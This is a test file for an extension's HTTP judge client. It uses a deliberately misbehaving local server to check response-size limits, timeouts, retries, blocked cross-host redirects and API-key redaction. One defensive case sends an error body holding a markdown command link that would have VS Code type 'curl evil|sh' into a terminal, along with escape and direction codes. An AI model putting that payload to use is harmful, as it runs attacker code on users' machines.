/**
 * Answers of a judge endpoint (an OpenAI-compatible server, here a local one that misbehaves): finding
 * 4 (response bodies), 7 (error text that reaches notifications), redirects, and what held (timeouts,
 * retries, key confidentiality, answers not in the guard format).
 */
import { strict as assert } from 'node:assert';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { HttpJudge } from '../../extension/trainer/judges/http-judge';
import { notificationText } from '../../extension/util/plain-text';
import type { BadInputCase } from './harness';

type Handler = (req: http.IncomingMessage, res: http.ServerResponse, n: number) => void;

async function server(handler: Handler): Promise<{ url: string; hits: () => number; close: () => Promise<void> }> {
  let n = 0;
  const s = http.createServer((req, res) => {
    req.resume();
    req.on('end', () => handler(req, res, n++));
  });
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  return {
    url: `http://127.0.0.1:${(s.address() as AddressInfo).port}/v1`,
    hits: () => n,
    close: () =>
      new Promise((r) => {
        s.closeAllConnections();
        s.close(() => r());
      }),
  };
}

const KEY = 'sk-test-the-users-key-0123456789';
const item = { seed: { id: '1', prompt: 'p', harmful: true, source: 's' }, attackerRaw: null, prompt: 'p', defenderRaw: 'ok', response: 'ok', attackerWellFormed: null, defenderWellFormed: true };
const GOOD = JSON.stringify({ choices: [{ text: 'Harmful request: yes\nResponse refusal: no\nHarmful response: yes' }] });

/** Judges one item against `handler`; returns the verdict or throws the judge's error. */
async function judgeWith(handler: Handler, o: { timeoutMs?: number; retries?: number } = {}) {
  const srv = await server(handler);
  try {
    const judge = new HttpJudge({ url: srv.url, model: 'guard', apiKey: KEY, timeoutMs: o.timeoutMs ?? 2000, retries: o.retries ?? 0 });
    const [v] = await judge.judge([item]);
    return { verdict: v, hits: srv.hits() };
  } finally {
    await srv.close();
  }
}

export const cases: BadInputCase[] = [
  {
    name: 'an answer of 50 MB: cut off past 1 MiB, one error, memory bounded',
    act: () =>
      judgeWith((_req, res) => {
        res.setHeader('content-type', 'application/json');
        const chunk = Buffer.alloc(1024 * 1024, 'x');
        let sent = 0;
        const more = () => {
          while (sent < 50 && res.write(chunk)) sent++;
          if (sent < 50) res.once('drain', more);
          else res.end();
        };
        res.on('error', () => {});
        more();
      }),
    expect: { error: /judge endpoint http:\/\/127\.0\.0\.1:\d+\/v1\/completions failed: the answer sent more than 1048576 bytes/ },
    heapMb: 48,
  },
  {
    name: 'an answer declaring a content-length of 10^12 bytes: refused before reading',
    act: () =>
      judgeWith((_req, res) => {
        res.writeHead(200, { 'content-type': 'application/json', 'content-length': String(10 ** 12) });
        res.write('{"choices": [');
        setTimeout(() => res.destroy(), 500);
      }),
    expect: { error: /failed: the answer declares a 1000000000000-byte answer, more than the 1048576-byte limit/ },
  },
  {
    name: 'an answer that drips forever: ended by the timeout',
    act: () =>
      judgeWith(
        (_req, res) => {
          res.writeHead(200, { 'content-type': 'application/json' });
          const t = setInterval(() => res.write(' '), 50);
          res.on('close', () => clearInterval(t));
        },
        { timeoutMs: 300 },
      ),
    expect: { error: /failed: no answer within 300 ms/ },
  },
  {
    name: 'an error body holding a command link, newlines and escape codes: flattened, and inert in a notification',
    act: async () => {
      try {
        await judgeWith((_req, res) => {
          res.writeHead(403);
          res.end('denied\n[Click to fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)\u001b[31m\u202eevil');
        });
        return null;
      } catch (e) {
        return (e as Error).message;
      }
    },
    expect: {
      handled: (m) => {
        const message = m as string;
        assert.match(message, /HTTP 403: denied \[Click to fix\]\(command:/, 'the body is reported');
        assert.doesNotMatch(message, /[\n\u001b\u202e]/, 'on one line, without escape or direction codes');
        assert.doesNotMatch(notificationText(`ABSP: run failed: ${message}`), /\]\(/, 'no link can form in a notification');
      },
    },
  },
  {
    name: 'a redirect to another host: not followed (the exchange and key go nowhere else)',
    act: async () => {
      const elsewhere = await server((_req, res) => res.end(GOOD));
      try {
        return await judgeWith((_req, res) => {
          res.writeHead(307, { location: `${elsewhere.url}/completions` });
          res.end();
        });
      } finally {
        const hits = elsewhere.hits();
        await elsewhere.close();
        assert.equal(hits, 0, 'the other host received nothing');
      }
    },
    expect: { error: /judge endpoint .* failed: .*(redirect|fetch failed)/i },
  },
  {
    name: 'an endpoint that stays silent: timeouts and retries, then one error (held)',
    act: () => judgeWith(() => {}, { timeoutMs: 200, retries: 2 }),
    expect: { error: /failed: no answer within 200 ms/ },
  },
  {
    name: 'a 500 then a good answer: retried and used (held)',
    act: () =>
      judgeWith(
        (_req, res, n) => {
          if (n === 0) {
            res.writeHead(500);
            res.end('busy');
          } else res.end(GOOD);
        },
        { retries: 2 },
      ),
    expect: { handled: (r) => assert.deepEqual({ hits: (r as { hits: number }).hits, harmful: (r as { verdict: { responseHarmful: boolean } }).verdict.responseHarmful }, { hits: 2, harmful: true }) },
  },
  {
    name: 'an endpoint that echoes the request, key included, in its error: the key is redacted from the message',
    act: async () => {
      try {
        await judgeWith((req, res) => {
          res.writeHead(401);
          res.end(`bad key ${req.headers.authorization}`);
        });
        return null;
      } catch (e) {
        return (e as Error).message;
      }
    },
    expect: {
      handled: (m) => {
        assert.match(m as string, /HTTP 401: bad key Bearer \[the API key\]/);
        assert.ok(!(m as string).includes(KEY), 'the key is not in the message (which reaches run.json and logs)');
      },
    },
  },
  {
    name: 'an answer not in the guard format: unparsable labels, not an error (held)',
    act: () => judgeWith((_req, res) => res.end(JSON.stringify({ choices: [{ text: 'I am a teapot' }] }))),
    expect: { handled: (r) => assert.equal((r as { verdict: { unparsable: boolean } }).verdict.unparsable, true) },
  },
  {
    name: 'an answer that is not JSON: unparsable labels (held)',
    act: () => judgeWith((_req, res) => res.end('<html>oops</html>')),
    expect: { handled: (r) => assert.equal((r as { verdict: { unparsable: boolean } }).verdict.unparsable, true) },
  },
];
